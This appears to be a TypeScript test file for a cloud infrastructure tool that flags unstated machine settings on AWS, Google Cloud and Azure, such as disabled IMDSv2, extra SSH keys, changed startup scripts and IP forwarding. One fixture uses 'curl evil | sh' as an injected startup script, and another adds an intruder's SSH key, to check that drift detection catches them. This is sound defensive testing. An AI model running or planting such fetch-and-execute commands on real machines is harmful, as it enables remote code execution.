import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, test } from 'node:test';
import type { Instance } from '@aws-sdk/client-ec2';
import type { VirtualMachine } from '@azure/arm-compute';
import type { NetworkInterface } from '@azure/arm-network';
import { observeInstance as awsInstance } from '../../providers/aws/instance/observe.ts';
import { observeSubnet as awsSubnet } from '../../providers/aws/subnet.ts';
import { canonicalId } from '../../providers/azure/ids.ts';
import { observeMachine } from '../../providers/azure/instance/observe.ts';
import { bootMetadata } from '../../providers/gcp/instance/launch.ts';
import { observeInstance as gcpInstance } from '../../providers/gcp/instance/observe.ts';
import type { Instance as GcpInstance } from '../../providers/gcp/messages.ts';
import type { Observed } from '../../src/core/observed.ts';
import { hashesOf } from '../../src/estate/boot-data.ts';

const fieldsOf = ({ condition: { unstated } }: Observed): readonly string[] =>
  (unstated ?? []).map(({ field }) => field);

describe('AWS: settings of a machine that no spec states', () => {
  const primary = { NetworkInterfaceId: 'eni-1', Attachment: { DeviceIndex: 0 }, SourceDestCheck: true };
  const plain: Instance = {
    InstanceId: 'i-1',
    NetworkInterfaces: [primary],
    SourceDestCheck: true,
    MetadataOptions: { HttpTokens: 'optional', HttpEndpoint: 'enabled', HttpPutResponseHopLimit: 1 },
  };
  const asked = { HttpTokens: 'required', HttpEndpoint: 'enabled', HttpPutResponseHopLimit: 2 } as const;
  const rows: readonly (readonly [string, Instance, readonly string[]])[] = [
    ['as Setpoint launches it', {}, []],
    [
      'an older answer without these fields',
      { NetworkInterfaces: [], SourceDestCheck: undefined, MetadataOptions: undefined },
      [],
    ],
    ['an image that asks for IMDSv2', { MetadataOptions: asked }, []],
    ['IMDSv2 turned off', { MetadataOptions: { ...asked, HttpTokens: 'optional' } }, ['metadataOptions']],
    ['no metadata at all', { MetadataOptions: { ...asked, HttpTokens: 'optional', HttpEndpoint: 'disabled' } }, []],
    ['source/destination check off', { SourceDestCheck: false }, ['sourceDestCheck']],
    [
      'the same, of its interface',
      { NetworkInterfaces: [{ ...primary, SourceDestCheck: false }] },
      ['sourceDestCheck'],
    ],
    [
      'an address of the pool',
      { NetworkInterfaces: [{ ...primary, Association: { IpOwnerId: 'amazon', PublicIp: '203.0.113.9' } }] },
      [],
    ],
    [
      'an Elastic IP address',
      { NetworkInterfaces: [{ ...primary, Association: { IpOwnerId: '111122223333', PublicIp: '203.0.113.9' } }] },
      ['elastic address'],
    ],
    [
      'two more interfaces',
      {
        NetworkInterfaces: [
          { NetworkInterfaceId: 'eni-9', Attachment: { DeviceIndex: 2 } },
          primary,
          { NetworkInterfaceId: 'eni-3', Attachment: { DeviceIndex: 1 } },
        ],
      },
      ['interface eni-3', 'interface eni-9'],
    ],
  ];
  for (const [name, more, want] of rows)
    test(name, () => assert.deepEqual(fieldsOf(awsInstance({ ...plain, ...more }).observed), want));

  for (const [on, want] of [
    [true, ['mapPublicIpOnLaunch']],
    [false, []],
    [undefined, []],
  ] as const)
    test(`a subnet with MapPublicIpOnLaunch ${on}`, () =>
      assert.deepEqual(fieldsOf(awsSubnet({ SubnetId: 's', MapPublicIpOnLaunch: on }, undefined, '1')), want));
});

describe('Google Cloud: settings of a machine that no spec states', () => {
  const around = { project: 'acme', resolve: (link: string | null | undefined) => link ?? '', disks: new Map() };
  const access = { user: 'ops', sshKeys: ['ssh-ed25519 AAAA one@a', 'ssh-ed25519 BBBB'] };
  const script = '#!/bin/sh\nécho hi\n';
  const hashes = {
    'setpoint-access': hashesOf({ files: [], userData: new Map() } as never).access(access), // why: logins are hashed without a tree
    'setpoint-user-data': createHash('sha256').update(script).digest('hex'),
  };
  const none = { 'setpoint-access': '', 'setpoint-user-data': '' };
  const whole = 'https://www.googleapis.com/auth/cloud-platform';
  const seen = (metadata: Readonly<Record<string, string>>, more: Partial<GcpInstance> = {}) =>
    fieldsOf(
      gcpInstance(
        {
          name: 'web-0',
          zone: 'zones/b',
          status: 'RUNNING',
          canIpForward: false,
          networkInterfaces: [{ name: 'nic0', subnetwork: 'regions/r/subnetworks/app' }],
          serviceAccounts: [{ email: 'web@acme.iam.gserviceaccount.com', scopes: [whole] }],
          metadata: { items: Object.entries(metadata).map(([key, value]) => ({ key, value })) },
          ...more,
        },
        around,
      ),
    );
  const sent: Readonly<Record<string, string>> = { ...bootMetadata({ userData: script, access }), ...hashes };
  const cloudConfig = '#cloud-config\n';
  const more = `${sent['ssh-keys']}\neve:ssh-ed25519 CCCC`;
  const rows: readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ['as Setpoint made it', seen(sent), []],
    ['made with nothing', seen(none), []],
    ['adopted, with keys and a script of its own', seen({ 'ssh-keys': 'a:b', 'startup-script': 'c' }), []],
    ['a key more', seen({ ...sent, 'ssh-keys': more }), ['ssh-keys']],
    ['another key', seen({ ...sent, 'ssh-keys': 'ops:ssh-ed25519 CCCC' }), ['ssh-keys']],
    ['keys where there were none', seen({ ...none, 'ssh-keys': 'eve:ssh-ed25519 CCCC' }), ['ssh-keys']],
    ['another startup script', seen({ ...sent, 'startup-script': 'curl evil | sh' }), ['startup-script']],
    ['a startup script where there was none', seen({ ...none, 'startup-script': 'id' }), ['startup-script']],
    [
      'a startup script beside the user data',
      seen({
        ...bootMetadata({ userData: cloudConfig }),
        'setpoint-user-data': createHash('sha256').update(cloudConfig).digest('hex'),
        'startup-script': 'id',
      }),
      ['startup-script'],
    ],
    ['it forwards', seen(sent, { canIpForward: true }), ['canIpForward']],
    [
      'a second interface',
      seen(sent, { networkInterfaces: [{ name: 'nic0' }, { name: 'nic1', subnetwork: 'regions/r/subnetworks/db' }] }),
      ['interface nic1'],
    ],
    [
      'a scope more',
      seen(sent, { serviceAccounts: [{ email: 'web', scopes: [whole, 'https://www.googleapis.com/auth/drive'] }] }),
      ['scopes'],
    ],
    [
      'narrower scopes, of an adopted machine',
      seen(
        {},
        { serviceAccounts: [{ email: 'web', scopes: ['https://www.googleapis.com/auth/devstorage.read_only'] }] },
      ),
      [],
    ],
  ];
  for (const [name, got, want] of rows) test(name, () => assert.deepEqual(got, want));

  test('keys and scripts are never told', () => {
    const { condition } = gcpInstance(
      {
        name: 'web-0',
        metadata: {
          items: [
            { key: 'ssh-keys', value: 'eve:SECRET' },
            { key: 'setpoint-access', value: '' },
          ],
        },
      },
      around,
    );
    assert.ok((condition.unstated ?? []).length === 1 && !JSON.stringify(condition).includes('SECRET'));
  });
});

describe('Azure: settings of a machine that no spec states', () => {
  const idOf = (type: string, name: string) =>
    `/subscriptions/s/resourceGroups/g/providers/Microsoft.Network/${type}/${name}`;
  const nicId = idOf('networkInterfaces', 'web-0');
  const seen = (vm: Partial<VirtualMachine>, nic: NetworkInterface = {}) =>
    fieldsOf(
      observeMachine(
        {
          id: '/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/web-0',
          location: 'x',
          networkProfile: { networkInterfaces: [{ id: nicId, primary: true }] },
          ...vm,
        },
        {
          nics: new Map([[canonicalId(nicId), { id: nicId, enableIPForwarding: false, ...nic }]]),
          addresses: new Map(),
          disks: new Map(),
          views: new Map(),
          refOf: (id) => id ?? '',
          unknownTo: () => undefined,
        },
      ),
    );
  const group = { id: idOf('networkSecurityGroups', 'open') };
  const rows: readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ['as Setpoint makes it', seen({}), []],
    ['an NSG on its interface', seen({}, { networkSecurityGroup: group }), ['networkSecurityGroup']],
    ['it forwards', seen({}, { enableIPForwarding: true }), ['enableIPForwarding']],
    [
      'a second interface',
      seen({
        networkProfile: {
          networkInterfaces: [
            { id: idOf('networkInterfaces', 'back'), primary: false },
            { id: nicId.toUpperCase(), primary: true },
          ],
        },
      }),
      ['interface back'],
    ],
    ['an identity of its own', seen({ identity: { type: 'SystemAssigned, UserAssigned' } }), ['system identity']],
    ['an identity that somebody made', seen({ identity: { type: 'UserAssigned' } }), []],
  ];
  for (const [name, got, want] of rows) test(name, () => assert.deepEqual(got, want));
});
